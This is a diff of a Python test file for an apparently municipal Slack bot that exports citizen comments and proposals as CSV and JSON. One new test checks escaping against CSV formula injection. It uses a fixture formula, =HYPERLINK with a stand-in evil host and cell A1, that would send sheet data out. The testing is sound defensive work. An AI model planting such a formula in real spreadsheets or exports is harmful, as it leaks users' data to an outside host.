@@ -14,6 +14,7 @@ from sqlalchemy import select
 
 from bot.__main__ import main
 from bot.handlers.account_ids import AccountAction
+from bot.handlers.comment_ids import CommentAction
 from bot.handlers.proposal_ids import ProposalAction
 from bot.workflows.accounts.models import AccountChange, AccountReview, RegisterAccount, Report
 from bot.workflows.accounts.rules import ReviewDecision
@@ -24,6 +25,7 @@ from tests.comments_support import message_showing, receive
 from tests.conftest import ROOT, TEST_START, test_environ
 from tests.emergency_support import declare
 from tests.harness.db_hold import Hold
+from tests.test_comments_slack import hiding_request_message, request_hiding
 from tests.test_proposals import click, form_values, latest_proposal, request_message
 from tests.test_proposals_lifecycle import approve_all, hand_off_message, record_publication
 
@@ -584,7 +586,7 @@ def run_export(koho, monkeypatch, tmp_path, *args, process=False):
         monkeypatch.setenv(name, value)
     out = tmp_path / "export.out"
     assert main(["export", *args, "--output", str(out)]) == 0
-    return out.read_text(encoding="utf-8")
+    return out.read_text(encoding="utf-8-sig")  # a CSV starts with a BOM (for Excel)
 
 
 def test_export_covers_accounts_comments_and_the_audit_record(koho, monkeypatch, tmp_path):
@@ -599,16 +601,26 @@ def test_export_covers_accounts_comments_and_the_audit_record(koho, monkeypatch,
     accounts = json.loads(run_export(koho, monkeypatch, tmp_path, "accounts", "--format", "json", process=True))
     by_id = {a["id"]: a for a in accounts}
     assert set(by_id) == {"city-x", "city-line", "kankyo-instagram", "kensetsu-x"}
-    assert by_id["kensetsu-x"]["changes"][0] | {"requested_at": None, "decided_at": None} == {
-        "id": 1, "kind": "open", "status": "approved", "requested_by": "U0PR1", "requested_at": None,
-        "decided_by": "U0PR2", "decided_at": None, "reason": None}
+    (change,) = by_id["kensetsu-x"]["changes"]
+    assert change | {"payload": None} == {
+        "id": 1, "kind": "open", "status": "approved", "requested_by": "U0PR1", "requested_at": "2026-11-24T10:00:00+09:00",
+        "decided_by": "U0PR2", "decided_at": "2026-11-24T10:00:00+09:00", "reason": None, "decision_reason": None,
+        "payload": None}
+    assert change["payload"]["department_id"] == "kensetsu" and change["payload"]["handle"] == "@chiba_douro"
     rows = list(csv.DictReader(io.StringIO(export("accounts"))))
     assert [r["operators"] for r in rows if r["id"] == "kensetsu-x"] == ["U0KENSETSU1 U0KENSETSU2"]
+    (csv_change,) = next(json.loads(r["changes"]) for r in rows if r["id"] == "kensetsu-x")
+    assert csv_change["payload"]["department_id"] == "kensetsu"
 
     (comment,) = json.loads(export("comments", "--format", "json"))
     assert comment["department"] == "kankyo" and "090-1234-5678" not in comment["masked_text"]
+    assert comment["received_at"] == "2026-11-24T09:58:00+09:00" and comment["hiding_requests"] == []  # as sent
+    assert [(h["action"], h["actor"], h["to"], h["at"]) for h in comment["history"]] == [
+        ("comment.received", "system", "routed", "2026-11-24T10:00:00+09:00")]
     (row,) = list(csv.DictReader(io.StringIO(export("comments"))))
-    assert row["status"] == "routed"
+    assert (row["status"], row["status_label"], row["category"], row["category_label"]) == (
+        "routed", "振分済（未確認）", "question", "相談・問合せ")
+    assert json.loads(row["history"]) == comment["history"]
 
     events = json.loads(export("audit", "--format", "json"))
     assert {"account.seeded", "account.change_approved", "account.opened"} <= {e["action"] for e in events}
@@ -631,6 +643,73 @@ def test_a_comments_link_is_exported_masked_as_slack_shows_it(koho, monkeypatch,
     as_csv = run_export(koho, monkeypatch, tmp_path, "comments")
     assert [row["url"] for row in csv.DictReader(io.StringIO(as_csv))] == [comment["url"]]
     assert "taro@example.jp" not in as_csv and "09012345678" not in as_csv
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'
+COLD_WAVE = "-10℃の寒波に注意してください。水道管の凍結にご注意を。問い合わせ: 水道局 043-000-0000"
+
+
+def test_a_csv_export_opens_in_japanese_excel_as_the_city_wrote_it(koho, monkeypatch, tmp_path):
+    """Japanese Excel reads a CSV without a byte-order mark as Shift_JIS, and runs a cell starting with = + - @
+    as a formula: a citizen's HYPERLINK would send the sheet away, staff's "-10℃" would be mangled. The CSV
+    starts with a BOM, such a cell with ', and every time is the city's (an 08:30 comment is not the day
+    before's 23:30 UTC). The JSON keeps the text as stored, without a BOM."""
+    proposal_id = propose(koho, text=COLD_WAVE)
+    koho.clock.advance(timedelta(hours=22, minutes=30))  # 08:30 the next morning in Chiba
+    receive(koho, HYPERLINK, received_at="2026-11-25T08:29:00+09:00")
+    receive(koho, "@SUM(1+1) ごみ収集車の音がうるさい", received_at="2026-11-25T08:29:30+09:00")
+    env = {**test_environ(koho.fake, koho.settings.database_url), "PATH": "/usr/bin:/bin"}
+
+    as_read = subprocess.run([sys.executable, "-m", "bot", "export", "comments"], cwd=ROOT, env=env,
+                             capture_output=True, timeout=60)  # standard output, as bytes
+    assert as_read.returncode == 0, as_read.stderr
+    assert as_read.stdout.startswith(b"\xef\xbb\xbfid,received_at,")
+    rows = list(csv.DictReader(io.StringIO(as_read.stdout.decode("utf-8-sig"))))
+    assert [r["masked_text"] for r in rows] == ["'" + HYPERLINK, "'@SUM(1+1) ごみ収集車の音がうるさい"]
+    assert [r["received_at"] for r in rows] == ["2026-11-25T08:29:00+09:00", "2026-11-25T08:29:30+09:00"]
+    assert json.loads(rows[0]["history"])[0]["at"] == "2026-11-25T08:30:00+09:00"
+
+    as_json = subprocess.run([sys.executable, "-m", "bot", "export", "comments", "--format", "json"], cwd=ROOT,
+                             env=env, capture_output=True, timeout=60).stdout
+    assert as_json.startswith(b"[")
+    assert [c["masked_text"] for c in json.loads(as_json)][0] == HYPERLINK
+
+    for name, value in env.items():
+        monkeypatch.setenv(name, value)
+    out = tmp_path / "proposals.csv"
+    assert main(["export", "proposals", "--output", str(out)]) == 0
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfproposal_id,")
+    (row,) = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert row["proposal_id"] == str(proposal_id) and row["text"] == "'" + COLD_WAVE
+    assert row["created_at"] == "2026-11-24T10:00:00+09:00"
+
+
+def test_a_hidden_comment_is_exported_with_its_hiding_request_and_history(koho, monkeypatch, tmp_path):
+    """Who asked to hide it, on which criterion, who confirmed it and when: in the comment's own record."""
+    comment_id = receive(koho, "ごみ収集の〇〇という職員は最低の人間だ")
+    message = message_showing(koho, "C0KANKYO", comment_id)
+    request_hiding(koho, "U0STAFF1", message)
+    koho.clock.advance(timedelta(minutes=30))
+    click(koho, "U0PR1", hiding_request_message(koho), CommentAction.CONFIRM_HIDING)
+    updated(koho, message, "非表示・削除を承認しました")
+
+    (comment,) = json.loads(run_export(koho, monkeypatch, tmp_path, "comments", "--format", "json"))
+    assert comment["status"] == "hidden" and comment["closed_by"] == "U0PR1"
+    (hiding,) = comment["hiding_requests"]
+    assert hiding | {"id": None} == {
+        "id": None, "criterion": "defamation", "note": "特定の職員への誹謗中傷", "status": "confirmed",
+        "requested_by": "U0STAFF1", "requested_at": "2026-11-24T10:00:00+09:00",
+        "decided_by": "U0PR1", "decided_at": "2026-11-24T10:30:00+09:00"}
+    assert [(h["action"], h["actor"], h["from"], h["to"], h["at"], h["note"]) for h in comment["history"]] == [
+        ("comment.received", "system", None, "routed", "2026-11-24T10:00:00+09:00", "matched"),
+        ("comment.hiding_requested", "U0STAFF1", "routed", "routed", "2026-11-24T10:00:00+09:00",
+         "特定の職員への誹謗中傷"),
+        ("comment.confirm_hiding", "U0PR1", "routed", "hidden", "2026-11-24T10:30:00+09:00", "defamation"),
+    ]
+    (row,) = list(csv.DictReader(io.StringIO(run_export(koho, monkeypatch, tmp_path, "comments"))))
+    assert json.loads(row["hiding_requests"]) == comment["hiding_requests"]
+    assert json.loads(row["history"]) == comment["history"] and row["status_label"] == "非表示・削除"
 
 
 def test_published_counts_come_from_the_record(koho):
